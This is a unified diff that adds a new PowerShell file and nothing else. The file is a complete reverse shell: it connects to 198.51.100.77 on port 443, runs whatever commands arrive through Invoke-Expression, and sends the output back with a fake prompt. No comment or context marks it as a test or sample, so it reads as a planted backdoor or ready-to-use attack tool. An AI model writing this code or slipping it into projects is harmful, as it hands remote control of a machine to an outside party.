@@ -1,0 +1,12 @@
+$c = New-Object System.Net.Sockets.TCPClient('198.51.100.77', 443)
+$s = $c.GetStream()
+[byte[]]$b = 0..65535 | ForEach-Object { 0 }
+while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
+  $d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b, 0, $i)
+  $o = (Invoke-Expression $d 2>&1 | Out-String)
+  $o2 = $o + 'PS ' + (Get-Location).Path + '> '
+  $sb = ([Text.Encoding]::ASCII).GetBytes($o2)
+  $s.Write($sb, 0, $sb.Length)
+  $s.Flush()
+}
+$c.Close()
